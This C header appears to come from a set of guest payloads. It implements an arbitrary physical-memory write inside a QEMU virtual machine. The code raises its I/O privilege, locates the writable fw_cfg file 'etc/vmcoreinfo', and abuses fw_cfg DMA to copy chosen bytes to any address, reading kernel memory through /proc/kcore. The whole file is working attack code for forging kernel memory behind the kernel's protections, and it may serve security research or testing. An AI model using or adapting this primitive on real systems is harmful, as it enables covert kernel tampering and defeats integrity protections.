/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * By DMA of QEMU's fw_cfg (guest-images/payloads/port_dma.c). The guest may write one of its files:
 * the device then copies that file to any address. Memory is read by /proc/kcore.
 */
#ifndef FORGING_FW_CFG_H
#define FORGING_FW_CFG_H

#define PORT 0x514
#define DIRECTORY 0x19
#define READ 2U
#define SELECT 8U
#define WRITE 16U
#define CHUNK 16 /* bytes of a file that the guest may write */

/* All of it big-endian. */
static volatile struct {
	__u32 control;
	__u32 size;
	__u64 address;
} request __aligned(16);

static volatile struct {
	__u32 count;
	struct {
		__u32 size;
		__u16 key;
		__u16 unused;
		char name[56];
	} files[60];
} directory __aligned(4096);

static volatile char chunk[CHUNK] __aligned(CHUNK);
static unsigned int scratch;

static void out(unsigned short port, __u32 value)
{
	__asm__ volatile("outl %0, %1" : : "a"(value), "Nd"(port) : "memory");
}

static void copy(unsigned int key, unsigned int way, unsigned long address, unsigned int size)
{
	unsigned long at = physical(&request);

	request.control = __builtin_bswap32(key << 16 | SELECT | way);
	request.size = __builtin_bswap32(size);
	request.address = __builtin_bswap64(address);
	out(PORT, __builtin_bswap32(at >> 32));
	out(PORT + 4, __builtin_bswap32(at));
}

/* int 0x80 is the entry for 32-bit programs, with numbers of its own: 110 is iopl. */
static bool may_use_ports(void)
{
	int result;

#if defined(BY_IOPERM)
	result = sys(__NR_ioperm, PORT, 8, 1);
#elif defined(BY_INT80)
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(110), "b"(3L) : "memory");
#else
	result = sys(__NR_iopl, 3);
#endif
	return !result;
}

static bool begin(void)
{
	static const char wanted[] = "etc/vmcoreinfo";
	unsigned int i, n;

	memory = sys(__NR_open, "/proc/kcore", O_RDONLY);
	if (memory < 0 || !may_use_ports())
		return false;
	directory.count = 1;
	copy(DIRECTORY, READ, physical(&directory), sizeof(directory));
	for (i = 0; i < __builtin_bswap32(directory.count); i++) {
		for (n = 0; n < sizeof(wanted) && directory.files[i].name[n] == wanted[n]; n++)
			;
		if (n == sizeof(wanted))
			scratch = __builtin_bswap16(directory.files[i].key);
	}
	return scratch;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	sys(__NR_pread64, memory, to, size, KCORE_AT + places[place] + offset);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	unsigned long done, step;

	for (done = 0; done < size; done += step) {
		step = size - done < CHUNK ? size - done : CHUNK;
		memcpy((void *)chunk, from + done, step);
		copy(scratch, WRITE, physical(chunk), step);
		copy(scratch, READ, places[place] + offset + done, step);
	}
}

#endif
